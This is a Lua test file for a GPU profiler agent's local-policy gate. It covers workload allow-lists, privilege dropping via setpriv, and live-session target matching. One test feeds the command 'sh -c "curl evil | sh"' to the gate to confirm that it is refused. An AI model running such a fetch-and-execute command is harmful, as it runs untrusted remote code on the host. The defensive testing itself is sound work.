-- The agent's local-policy gate (lua/gpuflame/fleet/allow.lua): the remote-workload allow-list (exact
-- lines, globs with Lua pattern characters literal, the allow file, enabled = false, decide), the
-- privilege drop (setpriv argv, the group looked up independently with Python's pwd), and live-session
-- targets (by name, service or command glob; exactly one must match; remote_sessions allow lists, decide).
local top = os.getenv("GF_TOP") or "."
local t = dofile(top .. "/tests/lib/t.lua")
local core = require("gpuflame.core")
local policy = require("gpuflame.policy")
local allow = require("gpuflame.fleet.allow")
local procfs = require("gpuflame.procfs")
local tmp = t.tmp()
local p

-- allow-list for remote workloads
core.fs.write_atomic(tmp .. "/allowed", "# comment\n/opt/app/cuda_burn 30\npython3 /opt/bench/*.py *\n/opt/x/a%d.sh [1]\n")
core.fs.write_atomic(tmp .. "/allow.lua", string.format(
  'return { extends = "default", agent = { remote_workloads = { allow_file = %q } } }', tmp .. "/allowed"))
p = policy.effective({ tmp .. "/allow.lua" })
t.eq("exact command allowed", true, (allow.workload({ "/opt/app/cuda_burn", "30" }, nil, p)))
t.eq("same program, other args refused", false, (allow.workload({ "/opt/app/cuda_burn", "31" }, nil, p)))
t.eq("glob allowed", true, (allow.workload({ "python3", "/opt/bench/mm.py", "--n", "4" }, nil, p)))
local okw, why = allow.workload({ "sh", "-c", "curl evil | sh" }, nil, p)
t.eq("anything else refused", false, okw)
t.check("refusal names the allow-list file", why and why:find(tmp .. "/allowed", 1, true), why)
t.eq("Lua pattern characters in an allow-list line are literal (allowed as written)", true,
  (allow.workload({ "/opt/x/a%d.sh", "[1]" }, nil, p)))
t.eq("Lua pattern characters in an allow-list line are literal (no pattern match)", false,
  (allow.workload({ "/opt/x/a5.sh", "1" }, nil, p)))
core.fs.write_atomic(tmp .. "/noremote.lua",
  'return { extends = "default", agent = { remote_workloads = { enabled = false, allow = { "*" } } } }')
p = policy.effective({ tmp .. "/noremote.lua" })
okw, why = allow.workload({ "/opt/app/cuda_burn", "30" }, nil, p)
t.check("remote workloads disabled refuses everything", not okw and why:find("disabled", 1, true), why)
core.fs.write_atomic(tmp .. "/decide.lua", [[return { extends = "default", agent = { remote_workloads = {
  decide = function(argv) if argv[1] == "/usr/bin/true" then return true end return false, "only true is allowed" end } } }]])
p = policy.effective({ tmp .. "/decide.lua" })
t.eq("decide function allows", true, (allow.workload({ "/usr/bin/true" }, nil, p)))
okw, why = allow.workload({ "/usr/bin/false" }, nil, p)
t.check("decide function refuses with its reason", not okw and why == "only true is allowed", why)


-- privilege drop: nothing to drop by default; with run_as, setpriv with the user's primary group
p = policy.effective({})
t.eq("no run_as: the argv as given", "./app 1", table.concat(allow.privilege_drop({ "./app", "1" }, p), " "))
local setpriv = core.fs.which("setpriv")
local gid = core.proc.run({ argv = { "python3", "-c", "import pwd; print(pwd.getpwnam('nobody').pw_gid)" } })
if setpriv and gid.ok then
  core.fs.write_atomic(tmp .. "/runas.lua",
    'return { extends = "default", agent = { remote_workloads = { run_as = "nobody" } } }')
  p = policy.effective({ tmp .. "/runas.lua" })
  t.eq("run_as: setpriv with the user's primary group (pwd), groups initialised",
    setpriv .. " --reuid nobody --regid " .. gid.stdout:match("%d+") .. " --init-groups -- ./app 1",
    table.concat(allow.privilege_drop({ "./app", "1" }, p), " "))
  core.fs.write_atomic(tmp .. "/runas2.lua",
    'return { extends = "default", agent = { remote_workloads = { run_as = "nobody", run_as_group = "users" } } }')
  p = policy.effective({ tmp .. "/runas2.lua" })
  t.eq("run_as_group given: used as is", setpriv .. " --reuid nobody --regid users --init-groups -- ./app",
    table.concat(allow.privilege_drop({ "./app" }, p), " "))
  core.fs.write_atomic(tmp .. "/runas3.lua",
    'return { extends = "default", agent = { remote_workloads = { run_as = "no-such-user-gf" } } }')
  p = policy.effective({ tmp .. "/runas3.lua" })
  t.raises("run_as: an unknown user is an error naming it", function() allow.privilege_drop({ "./app" }, p) end,
    "no-such-user-gf")
else
  t.skip("privilege drop argv", "needs setpriv and the user nobody")
end

-- live-session targets: a registry with two running sessions (this process stands in for the workload
-- and its launcher: both are alive) and one whose processes are gone
local reg = tmp .. "/reg"
core.fs.mkdirp(reg)
local me = core.proc.getpid()
local function entry(name, service, command, pid)
  core.fs.write_atomic(reg .. "/" .. name .. ".json", core.json.encode({ name = name, service = service,
    command = command, pid = pid or me, pid_start = procfs.start(me), launcher_pid = me,
    launcher_start = procfs.start(me), started = "2026-01-01T00:00:00+00:00" }))
end
entry("train-a", "trainer", { "torchrun", "train.py", "--cfg", "a.yaml" })
entry("serve-b", "inference", { "python3", "serve.py" })
entry("gone-c", "trainer", { "torchrun", "old.py" }, 999999999)
local function pol(extra)
  local f = tmp .. "/s" .. tostring(math.random(1e9)) .. ".lua"
  core.fs.write_atomic(f, string.format('return { extends = "default", live = { registry_dir = %q }, ' ..
    'agent = { remote_sessions = %s } }', reg, extra))
  return policy.effective({ f })
end
p = pol("{ enabled = true }")
t.raises("nothing allowed by default: the session is refused naming the lists",
  function() allow.session_target("train-a", nil, p) end, "agent.remote_sessions.allow_names")
p = pol('{ allow_names = { "train-*" } }')
t.eq("by name, allowed by a name glob", "train-a", allow.session_target("train-a", nil, p).name)
t.eq("by service", "train-a", allow.session_target({ service = "trainer" }, nil, p).name)
t.raises("an ended session is no target (no running session matches)",
  function() allow.session_target("gone-c", nil, p) end, "no running session matches")
t.raises("by a name no session has", function() allow.session_target("nope", nil, p) end, "no running session matches")
t.raises("allowed names do not allow other sessions", function() allow.session_target("serve-b", nil, p) end,
  "is not allowed by local policy")
p = pol('{ allow_commands = { "python3 serve.py*" } }')
t.eq("by command glob, allowed by a command glob", "serve-b",
  allow.session_target({ command = "python3 *" }, nil, p).name)
t.raises("a target matching two sessions is refused, naming both",
  function() allow.session_target({ command = "*" }, nil, p) end, "2 sessions match")
t.raises("a target naming nothing is refused", function() allow.session_target({}, nil, p) end, "names no session")
p = pol('{ enabled = false, allow_names = { "*" } }')
t.raises("enabled = false refuses every session", function() allow.session_target("train-a", nil, p) end, "disabled")
p = pol('{ decide = function(s) return s.service == "inference", "only inference" end }')
t.eq("decide allows", "serve-b", allow.session_target("serve-b", nil, p).name)
t.raises("decide refuses with its reason", function() allow.session_target("train-a", nil, p) end, "only inference")
t.check("the ended session's entry was removed from the registry", not core.fs.stat(reg .. "/gone-c.json"))
return t.done()
